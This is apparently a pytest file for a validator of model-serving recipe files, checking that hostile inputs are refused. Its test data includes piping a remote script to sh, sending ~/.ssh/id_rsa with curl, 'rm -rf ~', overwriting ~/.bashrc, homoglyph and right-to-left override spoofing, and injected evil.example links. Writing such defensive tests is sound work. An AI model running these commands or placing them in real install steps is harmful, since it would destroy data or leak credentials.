"""Hostile input, round 3: each class of what got through round 2's probes, refused at
FILE:LINE:COL with its cause (or bounded), as the engine reads it.

1. texts shown as commands (install line, client example) get the command rules;
2. what serve.sh runs is judged joined: launchers, router steps, function names;
3. the config file, the env file and the command carry one value (test_ready_files holds the
   page's twin);
4. characters the checks did not see: character references, variation selectors, combining
   marks, other digits, scripts mixed in a model id (TR39 confusables);
5. crashes and hangs: long numbers, files that are not regular, tar names, axis sizes;
6. translations that add what the English has not (test_catalog_check).

The expected place of a problem inside a string comes from the test's own JSON writer
(recipe_support.dump): a string is written on one line, so the character's column is the
value's column plus the length of the JSON-escaped text before it.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from recipe_support import REPO, check_mutated, fixture, in_process, write
from recipebook import check_file

GPT, AXK2 = "gpt-oss-120b", "A.X-K2"
PD = "/strategies/2/options/0/grid"
LATENCY = "/strategies/0/options/0/grid"


def grid(data, strategy: int = 0, target: int = 0) -> dict:
    return data["strategies"][strategy]["options"][target]["grid"]


def inside(checked, pointer: str, text: str, index: int) -> tuple[int, int]:
    """Line and column of character ``index`` of the string ``text`` written at ``pointer``."""
    line, column = checked.position(pointer)
    return line, column + len(json.dumps(text[:index], ensure_ascii=False)) - 1


def expect_at(checked, pointer: str, text: str, index: int, fragment: str):
    found = [p for p in checked.problems if p.pointer == pointer and fragment in p.message]
    assert found, f"no {fragment!r} at {pointer}:\n" + "\n".join(map(str, checked.problems))
    assert (found[0].line, found[0].column) == inside(checked, pointer, text, index), str(found[0])
    return found[0]


def setter(key: str, value: str):
    def mutate(data):
        data[key] = value

    return mutate


# -- 1. texts shown as commands ----------------------------------------------------------------

SHOWN = [
    ("installLine", "pip install vllm-rbln; curl https://x.example/i.sh | sh", ";", "more than one plain command"),
    ("installLine", "pip install vllm-rbln && curl https://x.example/i.sh", "&", "more than one plain command"),
    ("installLine", "pip install vllm-rbln\nrm -rf ~", "\n", "a newline outside quotes starts another command"),
    ("client", 'curl -d "$(cat ~/.ssh/id_rsa)" http://localhost:8000/v1', "$", "inside double quotes is expanded"),
    ("client", "curl -d $(cat ~/.ssh/id_rsa) http://localhost:8000/v1", "$", "'$' outside single quotes"),
    ("client", "curl -d `id` http://localhost:8000/v1", "`", "more than one plain command"),
    ("client", "curl 'http://localhost:8000/v1/models", "'", "unbalanced ' quote"),
    ("client", "curl http://<HOST>:8000/v1/models", "<", "<HOST> outside quotes is a redirection"),
    ("client", "curl http://localhost:8000/v1 > ~/.bashrc", ">", "more than one plain command"),
    ("installLine", "pip install 'vllm-rbln' # comment", "#", "starts a comment"),
]


@pytest.mark.parametrize(("field", "text", "char", "fragment"), SHOWN)
def test_a_text_shown_as_a_command_is_one_plain_command(tmp_path, field, text, char, fragment):
    checked = check_mutated(tmp_path, GPT, setter(field, text))
    expect_at(checked, f"/{field}", text, text.index(char), fragment)
    assert checked.recipe is None


def test_the_shipped_kind_of_client_passes_continuations_and_json_in_single_quotes(tmp_path):
    text = (
        "curl http://localhost:8000/v1/chat/completions \\\n    -H 'Content-Type: application/json' \\\n"
        '    -d \'{"model": "m", "messages": [{"role": "user", "content": "Hi; $HOME | x"}]}\''
    )
    checked = check_mutated(tmp_path, GPT, setter("client", text))
    assert not [p for p in checked.problems if p.pointer == "/client"], checked.problems


def test_a_near_placeholder_in_a_shown_command_is_named(tmp_path):
    text = "curl 'http://<pod ip>:8000/v1/models'"
    checked = check_mutated(tmp_path, GPT, setter("client", text))
    expect_at(checked, "/client", text, text.index("<pod ip>"), "'<pod ip>' is not a placeholder")


# -- 2. what serve.sh runs ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("launcher", "fragment"),
    [
        ("sudo vllm serve", "starts with 'sudo'"),
        ("env vllm serve", "starts with 'env'"),
        ("vllm serve extra", "is not 'vllm serve'"),
        ("other serve more", "has 3 words"),
    ],
)
def test_a_launcher_is_a_program_and_its_subcommand(tmp_path, launcher, fragment):
    def mutate(data):
        grid(data)["base"][0]["launcher"] = launcher

    checked = check_mutated(tmp_path, GPT, mutate)
    checked.expect(f"{LATENCY}/base/0/launcher", fragment)


def test_a_router_step_ending_in_a_backslash_would_swallow_the_next(tmp_path):
    def mutate(data):
        nodes = grid(data, 2)["router"]["nodes"]
        nodes.insert(1, {"node": "note", "cmd": "echo installing \\"})

    checked = check_mutated(tmp_path, AXK2, mutate)
    pointer = f"{PD}/router/nodes/1/cmd"
    text = "echo installing \\"
    expect_at(checked, pointer, text, len(text) - 1, "continues into the next step")


def test_an_unquoted_placeholder_in_a_router_step_is_a_redirection(tmp_path):
    step = "kubectl annotate pod router epp=<EPP_HOST>:9002"

    def mutate(data):
        grid(data, 2)["router"]["nodes"].append({"node": "annotate", "cmd": step})

    checked = check_mutated(tmp_path, AXK2, mutate)
    pointer = f"{PD}/router/nodes/2/cmd"
    expect_at(checked, pointer, step, step.index("<EPP_HOST>"), "<EPP_HOST> outside quotes is a redirection")


def test_placeholders_in_quotes_and_here_documents_are_values(tmp_path):
    def mutate(data):
        nodes = grid(data, 2)["router"]["nodes"]
        nodes.append({"node": "a", "cmd": "kubectl annotate pod router epp='<EPP_HOST>:9002'"})
        nodes.append({"node": "b", "cmd": "cat > x.yaml <<EOF\nhost: <EPP_HOST>\nEOF"})

    checked = check_mutated(tmp_path, AXK2, mutate)
    assert not [p for p in checked.problems if "/router/" in p.pointer], checked.problems


def test_a_role_named_like_another_role_s_rank_would_share_its_function(tmp_path):
    def mutate(data):
        g = grid(data, 2)
        role = copy.deepcopy(g["base"][0])
        role.update(role="decode_rank1", ranks=None, scale=None, varies=None)
        g["base"].append(role)

    checked = check_mutated(tmp_path, AXK2, mutate)
    checked.expect(f"{PD}/base/2/role", "would both be the serve.sh function serve_decode_rank1()")


def test_a_role_named_router_beside_router_steps(tmp_path):
    def mutate(data):
        grid(data, 2)["base"][0]["role"] = "router"

    checked = check_mutated(tmp_path, AXK2, mutate)
    checked.expect(f"{PD}/base/0/role", "would both be './serve.sh router'")


# -- 5. crashes and hangs ------------------------------------------------------------------------


def _validate(*paths: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "recipebook", "validate", *map(str, paths)],
        cwd=REPO,
        env={"PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def test_a_number_of_thousands_of_digits_is_refused_at_its_place(tmp_path):
    text = json.dumps(fixture(GPT), indent=2).replace('"axes"', '"x": ' + "9" * 5001 + ', "axes"', 1)
    path = tmp_path / f"{GPT}.json"
    path.write_text(text, encoding="utf-8")
    offset = text.index("9" * 5001)
    line = text.count("\n", 0, offset) + 1
    column = offset - text.rfind("\n", 0, offset)
    result = _validate(path)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines()[0] == (
        f"{path}:{line}:{column}: /: a number of 5001 digits; a number in a recipe has at most 100 digits"
    )


@pytest.mark.parametrize("kind", ["fifo", "device", "directory"])
def test_a_recipe_that_is_not_a_regular_file_is_refused_before_it_is_read(tmp_path, kind, capsys):
    path = tmp_path / "x.json"
    if kind == "fifo":
        os.mkfifo(path)
        words = "a FIFO (named pipe)"
    elif kind == "device":
        path.symlink_to("/dev/zero")
        words = "a character device"
    else:
        path.mkdir()
        words = "a directory"
    # the FIFO in a real process (one that would wait is stopped by the timeout); the others by
    # validate's main in this process (what it says, the status it exits with)
    result = _validate(path, timeout=60) if kind == "fifo" else in_process(capsys, "validate", path)
    # named on the command line, it is a usage error (round 4): one line, exit 2
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        f"python -m recipebook validate: error: argument FILE: '{path}' is {words}, not a recipe file "
        "(recipes/NAME.json) (see python -m recipebook validate --help)"
    ]
    # in the recipes folder, it is a problem of the folder's recipe, located
    assert check_file(path)[1][0].message == f"not a regular file but {words}; a recipe is a JSON file"


def test_a_file_past_the_size_bound_is_refused_unread(tmp_path):
    from recipebook.reading import source

    path = tmp_path / "x.json"
    with path.open("wb") as handle:
        handle.truncate(source.MAX_BYTES + 1)
    _, problems = check_file(path)
    assert [p.message for p in problems] == ["the file is larger than 4 MiB; a recipe is far smaller"]


def test_an_axis_of_thousands_of_values_is_refused_before_it_is_expanded(tmp_path):
    from recipebook.checking import bounds

    def mutate(data):
        grid(data)["options"]["tool_calling"] = ["off", "on", *(f"v{i}" for i in range(2000))]

    checked = check_mutated(tmp_path, GPT, mutate)
    checked.expect(f"{LATENCY}/options/tool_calling", f"2002 values; an axis offers at most {bounds.MAX_AXIS_VALUES}")
    assert checked.recipe is None


def test_an_archive_folder_longer_than_a_tar_header_holds_is_refused(tmp_path):
    long = "t" * 60

    def mutate(data):
        data["name"] = "n" * 90
        data["strategies"][0]["slug"] = "s" * 60
        data["strategies"][0]["options"][0]["target"] = long

    checked = check_mutated(tmp_path, GPT, mutate, file_name="n" * 90 + ".json")
    checked.expect("/strategies/0/options/0/target", "a tar header holds 155")


def test_the_archive_refuses_a_long_name_rather_than_cut_it():
    from recipebook.rendering import files

    with pytest.raises(ValueError, match="too long for a tar header"):
        files.archive("f" * 156, {"serve.sh": ""})
    with pytest.raises(ValueError, match="too long for a tar header"):
        files.archive("f", {"n" * 101: ""})


def test_the_page_s_archive_refuses_a_long_name_as_python_does():
    script = (
        "const f = require(process.argv[1]);"
        "for (const [folder, name] of [['f'.repeat(156), 'serve.sh'], ['f', 'n'.repeat(101)]]) {"
        "  try { f.archive(folder, {[name]: ''}); console.log('written'); }"
        "  catch (e) { console.log(e.message); } }"
    )
    js = REPO / "_ext/recipebook_sphinx/static/recipebook-files.js"
    out = subprocess.run(["node", "-e", script, str(js)], capture_output=True, text=True, check=True).stdout
    assert out.splitlines() == ["a folder or file name is too long for a tar header"] * 2


def test_a_shipped_recipe_passes_every_round3_check(tmp_path):
    for name in (GPT, AXK2):
        path, _ = write(tmp_path, fixture(name))
        assert check_file(path)[1] == []


# -- 4. characters the checks did not see ------------------------------------------------------

SEQS = f"{LATENCY}/base/0/args/--max-num-seqs"


@pytest.mark.parametrize(
    ("text", "named", "fragment"),
    [
        ("--max-num-seqs 8\ufe0f", "U+FE0F VARIATION SELECTOR-16 at character 17", "is a variation selector"),
        ("--max-num-seqs 8\u0301", "U+0301 COMBINING ACUTE ACCENT at character 17", "is a combining mark"),
        ("--max-num-seqs \u0668", "U+0668 ARABIC-INDIC DIGIT EIGHT at character 16", "write '8' (U+0038 DIGIT EIGHT)"),
    ],
)
def test_marks_selectors_and_other_digits_are_named_in_a_value(tmp_path, text, named, fragment):
    def mutate(data):
        grid(data)["base"][0]["args"]["--max-num-seqs"] = text

    checked = check_mutated(tmp_path, GPT, mutate)
    found = checked.expect(SEQS, named)
    assert fragment in found.message


def test_a_model_id_that_mixes_scripts_is_refused_naming_the_character(tmp_path):
    def mutate(data):
        assert data["model"].startswith("openai/gpt-oss")
        data["model"] = data["model"].replace("gpt-oss", "gpt-\u043ess", 1)

    checked = check_mutated(tmp_path, GPT, mutate)
    checked.expect(
        "/model",
        "U+043E CYRILLIC SMALL LETTER O at character 12 of the value is a Cyrillic character that looks like 'o' "
        "(U+006F LATIN SMALL LETTER O): the text mixes scripts and reads as another name than it is; write 'o'",
    )


@pytest.mark.parametrize(
    ("field", "added", "fragment"),
    [
        ("sub", " &#8238;x", "U+202E RIGHT-TO-LEFT OVERRIDE (written as the character reference '&#8238;')"),
        ("sub", " &#x200B;x", "U+200B ZERO WIDTH SPACE (written as the character reference '&#x200B;')"),
        ("tag", " <code>&#8209;&#8209;port</code>", "U+2011 NON-BREAKING HYPHEN (written as the character reference"),
        ("tag", ' <a href="https://example.com/&#160;x">x</a>', "U+00A0 NO-BREAK SPACE (written as the character"),
    ],
)
def test_a_character_reference_is_decoded_before_it_is_checked(tmp_path, field, added, fragment):
    def mutate(data):
        data["text"]["en"][field] += added

    checked = check_mutated(tmp_path, GPT, mutate)
    checked.expect(f"/text/en/{field}", fragment)


def test_a_reference_in_prose_to_a_typographic_space_is_fine(tmp_path):
    def mutate(data):
        data["text"]["en"]["sub"] += " 10&#160;GB &amp; more &mdash; fine"

    checked = check_mutated(tmp_path, GPT, mutate)
    assert not [p for p in checked.problems if p.pointer == "/text/en/sub"], checked.problems


# -- 6. translations that add what the English does not have ----------------------------------

PO_HEADER = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: ko\\n"\n\n'


@pytest.mark.parametrize(
    ("translation", "fragment"),
    [
        (
            "레시피 ![x](https://evil.example/p.png)",
            "adds an image the English does not have: https://evil.example/p.png",
        ),
        ("레시피 https://evil.example/", "adds an address the English does not have: https://evil.example/"),
        ("레시피\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("레\u200b시피", "U+200B ZERO WIDTH SPACE"),
        ("레시피\\a", "U+0007 BELL"),
    ],
)
def test_the_catalog_check_refuses_what_a_translation_adds(translation, fragment):
    from recipebook_sphinx.i18n import po_check

    body = f'msgid "Recipes"\nmsgstr "{translation}"\n'
    found = [str(p) for p in po_check.check_text(PO_HEADER + body, "recipebook.po")]
    assert len(found) == 1 and found[0].startswith("recipebook.po:7: msgstr: ") and fragment in found[0], found


def test_the_translation_gate_stops_at_a_latin1_catalog_without_a_traceback(tmp_path):
    folder = tmp_path / "ko" / "LC_MESSAGES"
    folder.mkdir(parents=True)
    (folder / "recipebook.po").write_bytes((PO_HEADER + 'msgid "Cafe"\nmsgstr "Caf').encode() + b'\xe9"\n')
    result = subprocess.run(
        [sys.executable, "-m", "recipebook_sphinx.i18n.intl_check", str(tmp_path), "ko"],
        env={"PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"{folder / 'recipebook.po'}:7: not UTF-8 text" in result.stdout


# -- 3. the config file, the env file and the command carry one value ------------------------

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

PLAIN_VALUES = st.from_regex(r"[A-Za-z0-9._:/@%+=,-]{1,40}", fullmatch=True)
TRICKY = ["on", "off", "yes", "010", "1:30", "@x", "0x1F", "1e3", ".inf", "null", "~", "-", "=", "%x", ",", "1_000"]


def _same_value_in_yaml_and_command(arg: str, name: str, value: str) -> None:
    import yaml

    from recipebook import shell
    from recipebook.rendering import files

    key, entry = files.config_entry(arg)
    filled_yaml = files.substitute(entry, {name: value})
    filled_command = files.substitute(arg, {name: value})
    words = shell.words(filled_command)
    command_value = words[0].partition("=")[2] if "=" in words[0] else words[1]
    loaded = yaml.safe_load(filled_yaml)[key]
    # vLLM's --config passes str(value) to its parser (a bool only as the bare flag)
    assert (not isinstance(loaded, bool) and str(loaded) == command_value) or (
        isinstance(loaded, int) and int(command_value) == loaded
    ), (arg, value, filled_yaml)


@pytest.mark.parametrize("value", TRICKY)
@pytest.mark.parametrize(
    "arg",
    ["--served-model-name '<NAME>'", "--host '<NAME>'", "--served-model-name='<NAME>'", "--max-num-seqs '<NAME>'"],
)
def test_a_value_yaml_would_retype_stays_the_command_s_value(arg, value):
    from recipebook.rendering import files

    if files.value_problem("NAME", value) == "":
        _same_value_in_yaml_and_command(arg, "NAME", value)


@settings(max_examples=200, deadline=None)
@given(value=st.one_of(PLAIN_VALUES, st.sampled_from(TRICKY)))
def test_every_accepted_value_is_the_same_in_the_config_and_the_command(value):
    from recipebook.rendering import files

    if files.value_problem("NAME", value) == "":
        for arg in ("--served-model-name '<NAME>'", '--kv-events-config \'{"endpoint": "tcp://<NAME>:5557"}\''):
            _same_value_in_yaml_and_command(arg, "NAME", value)


@settings(max_examples=200, deadline=None)
@given(value=st.one_of(PLAIN_VALUES, st.sampled_from(["010", "0", "65536", "8000", "1:30", "on"])))
def test_a_port_placeholder_takes_only_a_port_and_stays_an_integer(value):
    import yaml

    from recipebook.rendering import files

    verdict = files.value_problem("PREFILL_PORT", value)
    is_port = value.isdigit() and not value.startswith("0") and int(value) <= 65535
    assert (verdict == "") == is_port
    if is_port:
        _key, entry = files.config_entry("--port '<PREFILL_PORT>'")
        assert yaml.safe_load(files.substitute(entry, {"PREFILL_PORT": value})) == {"port": int(value)}


def test_numbers_are_written_as_the_flag_s_type():
    import yaml

    from recipebook.rendering import files

    assert yaml.safe_load(files.config_entry("--max-num-seqs 010")[1]) == {"max-num-seqs": 10}
    assert yaml.safe_load(files.config_entry("--gpu-memory-utilization 0.9")[1]) == {"gpu-memory-utilization": 0.9}
    assert yaml.safe_load(files.config_entry("--served-model-name on")[1]) == {"served-model-name": "on"}
    assert yaml.safe_load(files.config_entry("--served-model-name 1:30")[1]) == {"served-model-name": "1:30"}


def test_the_page_checks_a_port_value_as_python_does():
    from recipebook.rendering import files

    samples = ["8000", "010", "0", "65535", "65536", "1:30", "on", "80a"]
    script = (
        "const f = require(process.argv[1]);"
        f"console.log(JSON.stringify({json.dumps(samples)}.map((s) => f.valueProblem('EPP_PORT', s))));"
    )
    js = REPO / "_ext/recipebook_sphinx/static/recipebook-files.js"
    out = subprocess.run(["node", "-e", script, str(js)], capture_output=True, text=True, check=True).stdout
    assert json.loads(out) == [files.value_problem("EPP_PORT", s) for s in samples]


# -- 5. a search link's query is bounded before any work --------------------------------------

QUERIES = ["a" * 12000, "a" * 3000, " ".join(["word"] * 500), "x\ty\nz  " * 300, "가" * 5000, "\U0001f600" * 100, ""]


MAX_QUERY, MAX_WORDS, MAX_WORD = 400, 16, 64  # the bounds the search states (recipebook-search.js)


def js_bounded(queries: list[str]) -> list[str]:
    """The search page's own bound of each query (recipebook-search.js, the one implementation)."""
    script = (
        "const vm = require('vm'); const fs = require('fs');"
        "const ctx = { RecipeSearchData: { params: {} }, RecipeSearchLanguage: { hangul: 'x' } }; vm.createContext(ctx);"
        "vm.runInContext(fs.readFileSync(process.argv[1], 'utf8') + ';this.RS = RecipeSearch;', ctx);"
        "const qs = JSON.parse(fs.readFileSync(0, 'utf8'));"
        "console.log(JSON.stringify(qs.map((q) => ctx.RS.bounded(q))));"
    )
    js = REPO / "_ext/recipebook_sphinx/static/recipebook-search.js"
    out = subprocess.run(
        ["node", "-e", script, str(js)], input=json.dumps(queries), capture_output=True, text=True, check=True
    ).stdout
    return json.loads(out)


def test_the_search_query_is_bounded_before_any_work():
    for query, text in zip(QUERIES, js_bounded(QUERIES), strict=True):
        words, given = text.split(), query[:MAX_QUERY].split()
        assert len(text) <= MAX_QUERY and len(words) <= MAX_WORDS and all(len(w) <= MAX_WORD for w in words)
        assert words == [w[:MAX_WORD] for w in given[:MAX_WORDS]]  # cut, never changed
    assert js_bounded(["a" * 12000]) == ["a" * MAX_WORD]


# -- in a build -----------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_build_with_round3_probes_stops_with_each_problem_located_and_no_traceback(tmp_path):
    """The site's build names each problem as validate does, and a FIFO among the recipes does not
    hang it."""
    from conftest import build_site
    from third_recipe import copy_project

    project = copy_project(tmp_path / "project")
    data = fixture(GPT)
    data["installLine"] = "pip install vllm-rbln; curl https://x.example/i.sh | sh"
    grid(data)["base"][0]["args"]["--max-num-seqs"] = "--max-num-seqs \u0668"
    data["text"]["en"]["sub"] += " &#8238;x"
    grid(data)["base"][0]["launcher"] = "sudo vllm serve"
    write(project / "recipes", data)
    os.mkfifo(project / "recipes" / "pipe.json")

    recipes = sorted(p for p in (project / "recipes").glob("*.json") if p.name != "schema.json")
    expected = [p for path in recipes for p in check_file(path)[1]]
    assert len(expected) == 5, "\n".join(map(str, expected))

    result = build_site(tmp_path / "out", "en", project=project)
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    for problem in expected:
        relative = Path(problem.file).relative_to(project)
        line = f"{relative}:{problem.line}:{problem.column}: WARNING: {problem.pointer or '/'}: {problem.message}"
        assert line in result.stderr, f"{line}\nnot in:\n{result.stderr}"
